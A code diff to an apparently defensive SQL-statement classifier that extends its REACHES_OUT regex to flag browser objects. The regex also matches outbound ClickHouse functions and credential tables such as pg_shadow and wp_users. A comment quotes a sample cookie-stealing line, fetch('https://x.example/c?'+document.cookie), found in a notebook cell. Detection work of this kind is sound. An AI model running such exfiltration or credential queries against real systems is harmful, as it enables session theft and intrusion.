@@ -40,10 +40,13 @@ const STATEMENT_START = /^\s*(?:select|with\s+\w+\s+as\s*\(|explain(?:\s+analy[s
  * tables does not: reach out of the database (ClickHouse's `url()`, `file()`, `remote()`, `s3()` table
  * functions, `INSERT INTO FUNCTION`, a program) or read credentials and server tables (`system.users`,
  * `mysql.user`, `pg_shadow`, `wp_users`, a password or secret column). The exploit generator's ClickHouse
- * HTTP and WP Automatic `csv.php` requests send such whole statements.
+ * HTTP and WP Automatic `csv.php` requests send such whole statements. Also a browser's objects a script reads or sends
+ * (`document.cookie`, `localStorage`, `navigator.…`, `window.…`): no table's column, but a script glued into the
+ * statement (session 33, nb33: a `%%sql` cell with `fetch('https://x.example/c?'+document.cookie)` after its `ORDER BY`
+ * was a whole statement).
  */
 const REACHES_OUT =
-  /\b(?:url|file|remote|remotesecure|s3|s3cluster|hdfs|mysql|postgresql|jdbc|odbc|executable|input|azureblobstorage|gcs|urlcluster|cluster)\s*\(|\binto\s+function\b|\b(?:system|mysql|sys|pg_catalog\.pg_(?:shadow|authid)|information_schema\.user_privileges)\.\w|\b(?:pg_shadow|pg_authid|sql_logins|wp_users|user_pass|passwd|password\w*|pwd|pass_hash|secret\w*|api_?key|token)\b/i;
+  /\bdocument\.(?:cookie|domain|location|write)\b|\b(?:window|navigator|localstorage|sessionstorage)\.\w|\b(?:url|file|remote|remotesecure|s3|s3cluster|hdfs|mysql|postgresql|jdbc|odbc|executable|input|azureblobstorage|gcs|urlcluster|cluster)\s*\(|\binto\s+function\b|\b(?:system|mysql|sys|pg_catalog\.pg_(?:shadow|authid)|information_schema\.user_privileges)\.\w|\b(?:pg_shadow|pg_authid|sql_logins|wp_users|user_pass|passwd|password\w*|pwd|pass_hash|secret\w*|api_?key|token)\b/i;
 /**
  * What no quoted statement needs and injection shapes use: a comment, a time, file, command or server
  * function, a server variable, hex or char() spelling, a file export, `UNION SELECT NULL`, a stacked
